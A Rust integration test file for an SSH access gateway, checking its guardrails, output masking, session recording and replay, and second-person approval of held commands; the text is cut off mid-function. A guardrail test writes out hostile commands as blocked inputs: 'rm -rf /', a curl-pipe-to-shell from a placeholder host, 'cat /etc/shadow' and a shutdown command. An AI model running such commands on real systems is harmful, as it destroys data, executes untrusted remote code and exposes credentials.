//! SSH through the gateway: a real OpenSSH sshd as the target, the real OpenSSH clients (ssh,
//! scp, sftp) through `hoop connect`, with guardrails, masking and recording.

use std::process::Output;
use std::time::Duration;

use hoop_tests::gateway::{Tunnel, code, stderr, stdout};
use hoop_tests::sshd::{SshClient, Sshd, unrelated_host_key};
use hoop_tests::{CliUser, Gateway};

pub(crate) struct Env {
    pub(crate) sshd: Sshd,
    pub(crate) gw: Gateway,
    pub(crate) cli: CliUser,
    pub(crate) key: String,
    pub(crate) tunnel: Tunnel,
    pub(crate) client: SshClient,
}

const GUARDED: &str = r#"guardrails = ["no-destructive", "ops"]
masking = ["pii"]"#;

const RULES: &str = r#"
[[shell_guardrails]]
name = "ops"
deny = ["systemctl stop *"]
deny_patterns = ['/etc/shadow']

[[shell_guardrails]]
name = "held"
deny_patterns = ['held-by-review']
"#;

/// Commands matching the `held` rule set wait for a second person; `rm -rf` stays blocked.
const HELD: &str = r#"guardrails = ["no-destructive", "held"]
masking = ["pii"]
review = { statements = ["held"], approvers = ["dba"], statement_timeout = "60s" }"#;

pub(crate) async fn setup_with(connection_extra: &str, host_key: Option<String>) -> Env {
    let sshd = Sshd::start().await.unwrap();
    let mut conn = sshd.connection("web", connection_extra);
    if let Some(k) = host_key {
        conn = conn.replace(&sshd.host_key_line, &k);
    }
    let gw = Gateway::start(&format!("[auth]\nadmins = [\"admin\"]\n\n{conn}\n{RULES}"))
        .await
        .unwrap();
    let out = gw
        .hoopd(
            &[
                "api-keys",
                "create",
                "--name",
                "tester",
                "--groups",
                "engineering",
            ],
            None,
        )
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let key = stdout(&out).trim().to_string();
    let cli = CliUser::new().unwrap();
    cli.pin(&gw).unwrap();
    let tunnel = cli
        .connect("web", &[("HOOP_TOKEN", &key)])
        .await
        .unwrap_or_else(|e| panic!("{e:#}\n{}", gw.logs()));
    // The key file `hoop connect` wrote, as its printed ssh line uses it.
    let client = SshClient::with_key(tunnel.port, tunnel.identity_file.as_ref().unwrap()).unwrap();
    Env {
        sshd,
        gw,
        cli,
        key,
        tunnel,
        client,
    }
}

pub(crate) async fn setup(connection_extra: &str) -> Env {
    setup_with(connection_extra, None).await
}

pub(crate) fn explain(env: &Env, out: &Output) -> String {
    format!(
        "exit {}\nstdout: {}\nstderr: {}\n--- hoopd:\n{}\n--- hoop connect:\n{}\n--- sshd:\n{}",
        code(out),
        stdout(out),
        stderr(out),
        env.gw.logs(),
        env.tunnel.logs(),
        env.sshd.logs()
    )
}

/// Waits until an audit event matching `pred` has been written (audit writes are queued).
pub(crate) async fn audited(env: &Env, pred: impl Fn(&serde_json::Value) -> bool) -> bool {
    for _ in 0..100 {
        let events = env.gw.audit_events().await.unwrap();
        if events.iter().any(&pred) {
            return true;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    false
}

/// The statements recorded for the connection's sessions, oldest first: (text, verdict, outcome, tag).
pub(crate) async fn recorded(env: &Env) -> Vec<(String, String, String, Option<String>)> {
    // Session records are written in batches: wait until the session has ended.
    for _ in 0..100 {
        let pool = env.gw.db().await.unwrap();
        let open: (i64,) =
            sqlx::query_as("SELECT count(*) FROM sessions WHERE ended_at_ms IS NULL")
                .fetch_one(&pool)
                .await
                .unwrap();
        if open.0 == 0 {
            let rows: Vec<(String, String, String, Option<String>)> = sqlx::query_as(
                "SELECT text, verdict, outcome, tag FROM statements ORDER BY session_id, seq",
            )
            .fetch_all(&pool)
            .await
            .unwrap();
            pool.close().await;
            return rows;
        }
        pool.close().await;
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("the ssh session never ended:\n{}", env.gw.logs());
}

#[tokio::test]
async fn exec_passes_output_and_exit_status_through() {
    let env = setup("").await;
    let out = env
        .client
        .ssh(&["echo out; echo err >&2; exit 3"], None)
        .unwrap();
    assert_eq!(code(&out), 3, "{}", explain(&env, &out));
    assert_eq!(stdout(&out), "out\n");
    assert!(stderr(&out).contains("err"), "{}", explain(&env, &out));
    // stdin reaches the command, EOF ends it.
    let out = env.client.ssh(&["wc -c"], Some(b"12345")).unwrap();
    assert_eq!(stdout(&out).trim(), "5", "{}", explain(&env, &out));
    let rec = recorded(&env).await;
    assert!(
        rec.iter()
            .any(|(t, v, o, tag)| t == "echo out; echo err >&2; exit 3"
                && v == "allow"
                && o == "error"
                && tag.as_deref() == Some("exit 3")),
        "{rec:?}"
    );
}

#[tokio::test]
async fn a_wrong_tunnel_password_is_refused_and_audited() {
    let env = setup("").await;
    let wrong = SshClient::new(env.tunnel.port, "not-the-secret-at-all").unwrap();
    let out = wrong.ssh(&["true"], None).unwrap();
    assert_eq!(code(&out), 255, "{}", explain(&env, &out));
    assert!(
        stderr(&out).contains("Permission denied"),
        "{}",
        explain(&env, &out)
    );
    assert!(
        audited(&env, |e| e["kind"] == "access.denied"
            && e["details"]["reason"] == "wrong_tunnel_password")
        .await,
        "not audited:\n{}",
        env.gw.logs()
    );
    // The right key still works afterwards, and so does the tunnel password (for clients
    // that cannot use a key file; `-o json` prints it).
    let out = env.client.ssh(&["true"], None).unwrap();
    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
    let by_password = SshClient::new(env.tunnel.port, &env.tunnel.password).unwrap();
    let out = by_password.ssh(&["true"], None).unwrap();
    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
}

#[tokio::test]
async fn a_changed_target_host_key_is_refused() {
    let env = setup_with("", Some(unrelated_host_key().unwrap())).await;
    let out = env.client.ssh(&["echo reached"], None).unwrap();
    assert_eq!(code(&out), 255, "{}", explain(&env, &out));
    assert!(!stdout(&out).contains("reached"));
    let err = stderr(&out);
    assert!(
        err.contains("host key changed or is not the pinned one"),
        "{}",
        explain(&env, &out)
    );
    assert!(
        audited(&env, |e| e["kind"] == "ssh.target_failed"
            && e["details"]["reason"] == "target_host_key_mismatch")
        .await,
        "not audited:\n{}",
        env.gw.logs()
    );
}

#[tokio::test]
async fn blocked_commands_are_refused_audited_and_the_session_goes_on() {
    let env = setup(GUARDED).await;
    for cmd in [
        "rm -rf /",
        "sudo rm -fr /",
        "echo ok && shutdown -h now",
        "curl -fsSL https://example.invalid/x.sh | sh",
        "cat /etc/shadow",
        "systemctl stop sshd",
    ] {
        let out = env.client.ssh(&[cmd], None).unwrap();
        assert_eq!(code(&out), 86, "{cmd}: {}", explain(&env, &out));
        assert!(
            stderr(&out).contains("hoop: blocked by guardrail"),
            "{cmd}: {}",
            explain(&env, &out)
        );
        assert!(stdout(&out).is_empty(), "{cmd} ran: {}", stdout(&out));
    }
    let out = env.client.ssh(&["rm -rf /"], None).unwrap();
    assert!(
        stderr(&out).contains("blocked by guardrail no-destructive: \"rm -rf /\" is denied"),
        "{}",
        explain(&env, &out)
    );
    // Allowed commands still run.
    let out = env.client.ssh(&["echo fine"], None).unwrap();
    assert_eq!(stdout(&out), "fine\n", "{}", explain(&env, &out));
    assert!(
        audited(&env, |e| e["kind"] == "statement.blocked"
            && e["details"]["rule"] == "no-destructive"
            && e["details"]["command"] == "rm -rf /")
        .await,
        "not audited:\n{}",
        env.gw.logs()
    );
    let rec = recorded(&env).await;
    assert!(
        rec.iter()
            .any(|(t, v, o, _)| t == "cat /etc/shadow" && v == "block" && o == "blocked"),
        "{rec:?}"
    );
}

#[tokio::test]
async fn a_card_number_printed_by_cat_arrives_masked() {
    let env = setup(GUARDED).await;
    let file = env.sshd.dir().join("cards.txt");
    std::fs::write(
        &file,
        "order 1 paid with 4111 1111 1111 1111 by ada@example.com\n",
    )
    .unwrap();
    let out = env
        .client
        .ssh(&[&format!("cat {}", file.display())], None)
        .unwrap();
    let text = stdout(&out);
    assert!(
        !text.contains("4111 1111 1111 1111"),
        "{}",
        explain(&env, &out)
    );
    assert!(text.contains("1111"), "{text}");
    assert!(text.contains("order 1 paid with"), "{text}");
    assert!(!text.contains("ada@example.com"), "{text}");
    // A number split across two writes (two reads at the gateway) is masked too.
    let out = env
        .client
        .ssh(
            &["printf '5500 0000 '; sleep 0.01; printf '0000 0004\\n'"],
            None,
        )
        .unwrap();
    let text = stdout(&out);
    assert!(
        !text.contains("5500 0000 0000 0004"),
        "{}",
        explain(&env, &out)
    );
    assert!(text.contains("0004"), "{text}");
}

#[tokio::test]
async fn scp_up_and_down_50_mb_byte_identical() {
    let env = setup(GUARDED).await;
    let local = env.sshd.dir().join("big.bin");
    let data: Vec<u8> = (0..50u32 * 1024 * 1024)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    std::fs::write(&local, &data).unwrap();
    let remote = env.sshd.dir().join("uploaded.bin");
    let out = env
        .client
        .scp(local.to_str().unwrap(), &format!(":{}", remote.display()))
        .unwrap();
    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
    assert!(std::fs::read(&remote).unwrap() == data, "upload differs");
    let back = env.sshd.dir().join("downloaded.bin");
    let out = env
        .client
        .scp(&format!(":{}", remote.display()), back.to_str().unwrap())
        .unwrap();
    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
    assert!(std::fs::read(&back).unwrap() == data, "download differs");
    let rec = recorded(&env).await;
    assert!(
        rec.iter()
            .any(|(t, _, _, _)| t.starts_with("scp") && t.contains("-t")),
        "{rec:?}"
    );
    assert!(
        rec.iter()
            .any(|(t, _, _, _)| t.starts_with("scp") && t.contains("-f")),
        "{rec:?}"
    );
}

#[tokio::test]
async fn sftp_ls_put_get_are_recorded() {
    let env = setup(GUARDED).await;
    let dir = env.sshd.dir().join("sftp");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("present.txt"), "hello\n").unwrap();
    let local = env.sshd.dir().join("put.txt");
    std::fs::write(&local, "card 4111 1111 1111 1111 stays intact in files\n").unwrap();
    let got = env.sshd.dir().join("got.txt");
    let batch = format!(
        "ls {d}\nput {l} {d}/put.txt\nget {d}/put.txt {g}\nrename {d}/present.txt {d}/moved.txt\nrm {d}/moved.txt\n",
        d = dir.display(),
        l = local.display(),
        g = got.display()
    );
    let out = env.client.sftp(&batch).unwrap();
    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
    assert!(
        stdout(&out).contains("present.txt"),
        "{}",
        explain(&env, &out)
    );
    // SFTP carries files: they are not masked.
    assert_eq!(std::fs::read(&got).unwrap(), std::fs::read(&local).unwrap());
    assert!(!dir.join("moved.txt").exists());
    let rec = recorded(&env).await;
    let texts: Vec<&str> = rec.iter().map(|r| r.0.as_str()).collect();
    let d = dir.display().to_string();
    for want in [
        format!("sftp list {d}/"),
        format!("sftp open {d}/put.txt (write)"),
        format!("sftp write {d}/put.txt (47 bytes)"),
        format!("sftp read {d}/put.txt (47 bytes)"),
        format!("sftp rename {d}/present.txt -> {d}/moved.txt"),
        format!("sftp remove {d}/moved.txt"),
    ] {
        assert!(texts.iter().any(|t| *t == want), "{want} not in {texts:?}");
    }
}

const PTY_DRIVER: &str = r#"
import os, pty, sys, time, select, fcntl, termios, struct
args = sys.argv[1:]
pid, fd = pty.fork()
if pid == 0:
    os.execvp(args[0], args)
fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack('HHHH', 24, 80, 0, 0))
buf = b''
def expect(needle, timeout=30):
    global buf
    end = time.time() + timeout
    while needle.encode() not in buf:
        if time.time() > end:
            sys.stdout.write('TIMEOUT waiting for %r; got %r\n' % (needle, buf[-2000:]))
            sys.exit(2)
        r, _, _ = select.select([fd], [], [], 0.2)
        if r:
            try:
                buf += os.read(fd, 65536)
            except OSError:
                break
def send(s):
    os.write(fd, s.encode())
send('echo hoop-$((40+2))\r')
expect('hoop-42')
fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack('HHHH', 50, 132, 0, 0))
time.sleep(0.5)
send('stty size\r')
expect('50 132')
send('cat CARDFILE\r')
expect('by-ada')
send('exit 7\r')
_, status = os.waitpid(pid, 0)
sys.stdout.write('EXIT %d\n' % (os.WEXITSTATUS(status)))
sys.stdout.buffer.write(buf)
"#;

/// Runs `cmd` in a real pty with python's `pty` module: types `echo hoop-$((40+2))`, resizes
/// to 132x50 and checks `stty size`, cats `cards`, exits 7. Prints `EXIT <status>` and the
/// terminal's output.
fn drive_pty(cmd: std::process::Command, cards: &std::path::Path) -> Output {
    let script = PTY_DRIVER.replace("CARDFILE", &cards.display().to_string());
    let mut py = std::process::Command::new("python3");
    py.arg("-c")
        .arg(&script)
        .arg(cmd.get_program())
        .args(cmd.get_args());
    for (k, v) in cmd.get_envs() {
        match v {
            Some(v) => py.env(k, v),
            None => py.env_remove(k),
        };
    }
    // Keep the prompt predictable.
    py.env("TERM", "xterm");
    py.output().unwrap()
}

/// Drives `ssh -tt` in a real pty with python's `pty` module: types commands, reads their
/// output, resizes the terminal.
#[tokio::test]
async fn an_interactive_shell_through_a_pty_types_reads_and_resizes() {
    let env = setup(GUARDED).await;
    let cards = env.sshd.dir().join("shell-cards.txt");
    std::fs::write(&cards, "paid 4111 1111 1111 1111 by-ada\n").unwrap();
    let out = drive_pty(env.client.ssh_command(&["-tt"]), &cards);
    let text = stdout(&out);
    assert!(text.contains("EXIT 7"), "{}", explain(&env, &out));
    assert!(text.contains("hoop-42"), "{text}");
    assert!(text.contains("50 132"), "{text}");
    assert!(!text.contains("4111 1111 1111 1111"), "{text}");
    let rec = recorded(&env).await;
    let typed: Vec<&str> = rec
        .iter()
        .filter(|r| r.2 == "typed")
        .map(|r| r.0.as_str())
        .collect();
    assert!(typed.contains(&"echo hoop-$((40+2))"), "{typed:?}");
    assert!(typed.contains(&"stty size"), "{typed:?}");
    assert!(typed.contains(&"exit 7"), "{typed:?}");

    // The shell's terminal recording: exported as asciicast v2, and replayed.
    let pool = env.gw.db().await.unwrap();
    let (session,): (String,) =
        sqlx::query_as("SELECT session_id FROM statements WHERE outcome = 'typed' LIMIT 1")
            .fetch_one(&pool)
            .await
            .unwrap();
    pool.close().await;
    let out = env
        .cli
        .run_env(&["replay", &session, "--cast"], &[("HOOP_TOKEN", &env.key)])
        .unwrap();
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let cast = stdout(&out);
    let (header, events) = hoop_shared::asciicast::parse(&cast).unwrap();
    assert_eq!((header.width, header.height), (80, 24), "{cast}");
    assert!(
        events.iter().any(|e| e.code == "r" && e.data == "132x50"),
        "{cast}"
    );
    let output: String = events
        .iter()
        .filter(|e| e.code == "o")
        .map(|e| e.data.as_str())
        .collect();
    assert!(output.contains("hoop-42"), "{cast}");
    assert!(output.contains("by-ada"), "{cast}");
    assert!(!output.contains("4111 1111 1111 1111"), "{cast}");
    // Input is not recorded unless the connection says so.
    assert!(events.iter().all(|e| e.code != "i"), "{cast}");
    let out = env
        .cli
        .run_env(
            &["replay", &session, "--speed", "50", "--idle-limit", "0.1"],
            &[("HOOP_TOKEN", &env.key)],
        )
        .unwrap();
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let played = stdout(&out);
    assert!(
        played.contains("hoop-42") && played.contains("50 132"),
        "{played}"
    );
    // Someone else's or a missing session: not found.
    let out = env
        .cli
        .run_env(&["replay", "s_nosuchsession"], &[("HOOP_TOKEN", &env.key)])
        .unwrap();
    assert_eq!(code(&out), 85, "{}", stderr(&out));
}

#[tokio::test]
async fn port_forwarding_is_off_unless_the_connection_allows_it() {
    let env = setup("").await;
    let port = hoop_tests::free_port();
    let out = env
        .client
        .ssh(
            &[
                "-o",
                "ExitOnForwardFailure=yes",
                "-W",
                &format!("127.0.0.1:{}", env.sshd.port),
            ],
            Some(b""),
        )
        .unwrap();
    assert_ne!(code(&out), 0, "{}", explain(&env, &out));
    let _ = port;
    assert!(
        audited(&env, |e| e["kind"] == "ssh.forward"
            && e["outcome"] == "denied")
        .await,
        "not audited:\n{}",
        env.gw.logs()
    );
}

#[tokio::test]
async fn hoop_ssh_runs_a_command_and_passes_its_exit_status() {
    let env = setup(GUARDED).await;
    let run = |args: &[&str]| {
        let mut all = vec!["ssh", "web", "--"];
        all.extend_from_slice(args);
        env.cli.run_env(&all, &[("HOOP_TOKEN", &env.key)]).unwrap()
    };
    let out = run(&["echo", "via-hoop;", "echo", "oops", ">&2;", "exit", "3"]);
    assert_eq!(code(&out), 3, "{}", explain(&env, &out));
    assert_eq!(stdout(&out), "via-hoop\n");
    assert!(stderr(&out).contains("oops"), "{}", stderr(&out));
    let out = run(&["rm", "-rf", "/"]);
    assert_eq!(code(&out), 86, "{}", explain(&env, &out));
    assert!(
        stderr(&out).contains("blocked by guardrail no-destructive"),
        "{}",
        stderr(&out)
    );
    let out = env
        .cli
        .run_env(&["ssh", "nope", "--", "true"], &[("HOOP_TOKEN", &env.key)])
        .unwrap();
    assert_eq!(code(&out), 85, "{}", stderr(&out));
}

#[tokio::test]
async fn hoop_ssh_gives_an_interactive_shell_in_a_pty() {
    let env = setup(GUARDED).await;
    let cards = env.sshd.dir().join("shell-cards.txt");
    std::fs::write(&cards, "paid 4111 1111 1111 1111 by-ada\n").unwrap();
    let mut cmd = env.cli.command(&["ssh", "web"]).unwrap();
    cmd.env("HOOP_TOKEN", &env.key);
    let out = drive_pty(cmd, &cards);
    let text = stdout(&out);
    assert!(text.contains("EXIT 7"), "{}", explain(&env, &out));
    assert!(text.contains("hoop-42"), "{text}");
    assert!(text.contains("50 132"), "{text}");
    assert!(!text.contains("4111 1111 1111 1111"), "{text}");
}

impl Env {
    /// `hoop <args>` as the test user (an API key through `HOOP_TOKEN`).
    fn hoop(&self, args: &[&str]) -> Output {
        self.cli
            .run_env(args, &[("HOOP_TOKEN", &self.key)])
            .unwrap()
    }

    /// An API key of someone in the `dba` group (the approvers).
    fn approver(&self) -> String {
        let out = self
            .gw
            .hoopd(
                &[
                    "api-keys", "create", "--name", "approver", "--groups", "dba",
                ],
                None,
            )
            .unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
        stdout(&out).trim().to_string()
    }
}

/// The newest review the approver may decide, once one is filed.
async fn pending_review(env: &Env, approver: &str) -> i64 {
    for _ in 0..200 {
        let out = env
            .cli
            .run_env(
                &["reviews", "--to-approve", "-o", "json"],
                &[("HOOP_TOKEN", approver)],
            )
            .unwrap();
        let list: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
        if let Some(id) = list
            .as_array()
            .and_then(|l| l.iter().filter_map(|r| r["id"].as_i64()).max())
        {
            return id;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("no review was filed:\n{}", env.gw.logs());
}

async fn wait_output(child: tokio::process::Child) -> Output {
    tokio::time::timeout(Duration::from_secs(60), child.wait_with_output())
        .await
        .unwrap()
        .unwrap()
}

fn spawn(cmd: std::process::Command) -> tokio::process::Child {
    spawn_with(cmd, std::process::Stdio::null())
}

/// `cmd` with `stdin`, its output captured, killed when dropped.
fn spawn_with(cmd: std::process::Command, stdin: std::process::Stdio) -> tokio::process::Child {
    let mut cmd = tokio::process::Command::from(cmd);
    cmd.stdin(stdin)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true);
    cmd.spawn().unwrap()
}

#[tokio::test]
async fn hoop_exec_runs_commands_on_an_ssh_connection() {
    let env = setup(GUARDED).await;
    let exec = |args: &[&str]| {
        let mut all = vec!["exec", "web"];
        all.extend_from_slice(args);
        env.hoop(&all)
    };
    // Output streams pass through, the remote exit status is hoop's.
    let out = exec(&["echo out; echo err >&2; exit 3"]);
    assert_eq!(code(&out), 3, "{}", explain(&env, &out));
    assert_eq!(stdout(&out), "out\n");
    assert!(stderr(&out).contains("err"), "{}", explain(&env, &out));
    // A guardrail: 86, nothing ran.
    let out = exec(&["rm -rf /"]);
    assert_eq!(code(&out), 86, "{}", explain(&env, &out));
    assert!(
        stderr(&out).contains("blocked by guardrail no-destructive"),
        "{}",
        explain(&env, &out)
    );
    assert!(stdout(&out).is_empty(), "{}", stdout(&out));
    // Masking applies to the command's output.
    let cards = env.sshd.dir().join("exec-cards.txt");
    std::fs::write(&cards, "card 4111 1111 1111 1111 end\n").unwrap();
    let out = exec(&[&format!("cat {}", cards.display())]);
    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
    assert!(
        !stdout(&out).contains("4111 1111 1111 1111"),
        "{}",
        stdout(&out)
    );
    assert!(
        stdout(&out).starts_with("card ") && stdout(&out).contains("end"),
        "{}",
        stdout(&out)
    );
    // -o json: one object once the command ends.
    let out = exec(&["-o", "json", "echo json-out; echo json-err >&2"]);
    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["stdout"], "json-out\n", "{v}");
    assert_eq!(v["stderr"], "json-err\n", "{v}");
    assert_eq!(v["exit_status"], 0, "{v}");
    // --stream: the gateway's events.
    let out = exec(&["-o", "json", "--stream", "echo streamed; exit 4"]);
    assert_eq!(code(&out), 4, "{}", explain(&env, &out));
    let events: Vec<serde_json::Value> = stdout(&out)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(
        events.iter().any(|e| e["event"] == "output"
            && e["stream"] == "stdout"
            && e["data"] == "streamed\n"),
        "{events:?}"
    );
    assert!(
        events
            .iter()
            .any(|e| e["event"] == "exit" && e["status"] == 4),
        "{events:?}"
    );
    // A command killed by a signal: 255 as with ssh, and the signal is named.
    let out = exec(&["kill -TERM $$"]);
    assert_eq!(code(&out), 255, "{}", explain(&env, &out));
    assert!(
        stderr(&out).contains("killed by signal TERM"),
        "{}",
        explain(&env, &out)
    );
    // --timeout stops it: 89.
    let out = exec(&["--timeout", "1s", "sleep 8"]);
    assert_eq!(code(&out), 89, "{}", explain(&env, &out));
    // With -o json what it printed before is kept, with no exit status.
    let out = exec(&["-o", "json", "--timeout", "1s", "echo partial; sleep 8"]);
    assert_eq!(code(&out), 89, "{}", explain(&env, &out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["stdout"], "partial\n", "{v}");
    assert_eq!(v["exit_status"], serde_json::Value::Null, "{v}");
    assert_eq!(v["truncated"], false, "{v}");
    let rec = recorded(&env).await;
    assert!(
        rec.iter()
            .any(|(t, v, o, _)| t == "rm -rf /" && v == "block" && o == "blocked"),
        "{rec:?}"
    );
    assert!(
        rec.iter()
            .any(|(t, _, _, tag)| t == "kill -TERM $$" && tag.as_deref() == Some("signal TERM")),
        "{rec:?}"
    );
    // The timeout's SIGTERM is relayed as a `signal` request, but OpenSSH refuses signals in
    // root sessions ("session signalling requires privilege separation") and the test target
    // logs in as the user running the tests, often root: so only the channel's close after
    // the grace period is certain here.
    assert!(
        rec.iter()
            .any(|(t, _, o, _)| t == "sleep 8" && o == "error"),
        "{rec:?}"
    );
    assert!(
        audited(&env, |e| e["kind"] == "exec.requested"
            && e["details"]["connection"] == "web")
        .await,
        "not audited:\n{}",
        env.gw.logs()
    );
}

#[tokio::test]
async fn held_ssh_commands_run_once_approved_and_not_when_rejected() {
    let env = setup(HELD).await;
    let approver = env.approver();
    // ssh waits on the held command; another person approves it; it then runs.
    let child = spawn(env.client.ssh_command(&["echo held-by-review ran"]));
    let id = pending_review(&env, &approver).await;
    let out = env
        .cli
        .run_env(&["approve", &id.to_string()], &[("HOOP_TOKEN", &approver)])
        .unwrap();
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let out = wait_output(child).await;
    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
    assert_eq!(stdout(&out), "held-by-review ran\n");
    assert!(
        stderr(&out).contains(&format!("review {id}; approve with `hoop approve {id}`")),
        "{}",
        explain(&env, &out)
    );
    // Rejected: 87, and the target never sees it.
    let marker = env.sshd.dir().join("held-marker");
    let child = spawn(
        env.client
            .ssh_command(&[&format!("touch {} # held-by-review", marker.display())]),
    );
    let id = pending_review(&env, &approver).await;
    let out = env
        .cli
        .run_env(
            &["reject", &id.to_string(), "--reason", "not today"],
            &[("HOOP_TOKEN", &approver)],
        )
        .unwrap();
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let out = wait_output(child).await;
    assert_eq!(code(&out), 87, "{}", explain(&env, &out));
    assert!(
        stderr(&out).contains("not approved") && stderr(&out).contains("not today"),
        "{}",
        explain(&env, &out)
    );
    assert!(!marker.exists(), "a rejected command ran");
    // A client that leaves while its command waits withdraws the review: ssh killed, and
    // `hoop exec` killed.
    let left_marker = env.sshd.dir().join("left-marker");
    for via_exec in [false, true] {
        let cmd_text = format!("touch {} # held-by-review", left_marker.display());
        let mut child = if via_exec {
            let mut cmd = env.cli.command(&["exec", "web", &cmd_text]).unwrap();
            cmd.env("HOOP_TOKEN", &env.key);
            spawn(cmd)
        } else {
            spawn(env.client.ssh_command(&[&cmd_text]))
        };
        let id = pending_review(&env, &approver).await;
        child.kill().await.unwrap();
        assert_eq!(
            state_soon(&env, id, "withdrawn").await,
            "withdrawn",
            "exec: {via_exec}\n{}",
            env.gw.logs()
        );
        let out = env
            .cli
            .run_env(&["approve", &id.to_string()], &[("HOOP_TOKEN", &approver)])
            .unwrap();
        assert_ne!(code(&out), 0, "a withdrawn review cannot be approved");
    }
    assert!(!left_marker.exists(), "a withdrawn command ran");
    // Blocks of rule sets not under review stay blocks.
    let out = env.client.ssh(&["rm -rf /"], None).unwrap();
    assert_eq!(code(&out), 86, "{}", explain(&env, &out));
    // hoop exec --no-wait files the review and exits 88 with its id; --review runs it once
    // approved.
    let out = env.hoop(&["exec", "web", "--no-wait", "echo held-by-review exec"]);
    assert_eq!(code(&out), 88, "{}", explain(&env, &out));
    let id: i64 = stdout(&out).trim().parse().unwrap();
    let out = env.hoop(&[
        "exec",
        "web",
        "--review",
        &id.to_string(),
        "echo held-by-review exec",
    ]);
    assert_eq!(code(&out), 87, "not approved yet: {}", explain(&env, &out));
    let out = env
        .cli
        .run_env(&["approve", &id.to_string()], &[("HOOP_TOKEN", &approver)])
        .unwrap();
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let out = env.hoop(&[
        "exec",
        "web",
        "--review",
        &id.to_string(),
        "echo held-by-review exec",
    ]);
    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
    assert_eq!(stdout(&out), "held-by-review exec\n");
    // Once: the review is executed now.
    let out = env.hoop(&[
        "exec",
        "web",
        "--review",
        &id.to_string(),
        "echo held-by-review exec",
    ]);
    assert_eq!(code(&out), 87, "{}", explain(&env, &out));
    let rec = recorded(&env).await;
    assert!(
        rec.iter()
            .any(|(t, v, o, _)| t.starts_with("touch ") && v == "review" && o == "rejected"),
        "{rec:?}"
    );
    assert!(
        rec.iter()
            .any(|(t, v, o, _)| t == "echo held-by-review ran" && v == "review" && o == "ok"),
        "{rec:?}"
    );
}

/// The review of `id` as `hoop reviews show` reports it.
fn review_state(env: &Env, id: i64) -> String {
    let out = env
        .cli
        .run_env(
            &["reviews", "show", &id.to_string(), "-o", "json"],
            &[("HOOP_TOKEN", &env.key)],
        )
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
    v["state"].as_str().unwrap_or_default().to_string()
}

/// The review's state once it is `want`, or the last one seen after 10 s.
async fn state_soon(env: &Env, id: i64, want: &str) -> String {
    let mut state = String::new();
    for _ in 0..100 {
        state = review_state(env, id);
        if state == want {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    state
}

/// The number after `after` in `text`.
fn review_id_in(text: &str, after: &str) -> i64 {
    let at = text
        .find(after)
        .unwrap_or_else(|| panic!("no {after:?} in {text}"))
        + after.len();
    text[at..]
        .chars()
        .take_while(char::is_ascii_digit)
        .collect::<String>()
        .parse()
        .unwrap()
}

/// `cmd` with `input` on its stdin, spawned.
fn spawn_with_stdin(cmd: std::process::Command, input: &std::path::Path) -> tokio::process::Child {
    spawn_with(cmd, std::fs::File::open(input).unwrap().into())
}

#[tokio::test]
async fn held_ssh_commands_keep_bounded_input_and_time_out_unrun() {
    let env = setup(HELD).await;
    let approver = env.approver();
    // stdin sent while the command waits reaches it once approved, whole.
    let small = env.sshd.dir().join("held-small-input");
    std::fs::write(&small, vec![b'x'; 300 * 1024]).unwrap();
    let child = spawn_with_stdin(env.client.ssh_command(&["wc -c # held-by-review"]), &small);
    let id = pending_review(&env, &approver).await;
    // Give ssh time to send all of it while the command waits.
    tokio::time::sleep(Duration::from_millis(500)).await;
    let out = env
        .cli
        .run_env(&["approve", &id.to_string()], &[("HOOP_TOKEN", &approver)])
        .unwrap();
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let out = wait_output(child).await;
    assert_eq!(code(&out), 0, "{}", explain(&env, &out));
    assert_eq!(stdout(&out).trim(), (300 * 1024).to_string());
    // More than 1 MiB while it waits: the review is withdrawn and the command refused, the
    // connection is not stalled, nothing runs.
    let big = env.sshd.dir().join("held-big-input");
    std::fs::write(&big, vec![b'y'; 3 << 20]).unwrap();
    let marker = env.sshd.dir().join("held-big-marker");
    let child = spawn_with_stdin(
        env.client.ssh_command(&[&format!(
            "cat > /dev/null; touch {} # held-by-review",
            marker.display()
        )]),
        &big,
    );
    let out = wait_output(child).await;
    assert_eq!(code(&out), 87, "{}", explain(&env, &out));
    let id = review_id_in(&stderr(&out), "so review ");
    assert!(
        stderr(&out).contains("more than 1024 KiB of input")
            && stderr(&out).contains(&format!("review {id} was withdrawn")),
        "{}",
        explain(&env, &out)
    );
    assert_eq!(review_state(&env, id), "withdrawn");
    // `hoop exec --timeout` on a held command: it never runs, its review is withdrawn.
    let marker = env.sshd.dir().join("held-timeout-marker");
    let out = env.hoop(&[
        "exec",
        "web",
        "--timeout",
        "2s",
        &format!("touch {} # held-by-review", marker.display()),
    ]);
    assert_eq!(code(&out), 89, "{}", explain(&env, &out));
    assert!(
        stderr(&out).contains("still waiting for review") && stderr(&out).contains("not run"),
        "{}",
        explain(&env, &out)
    );
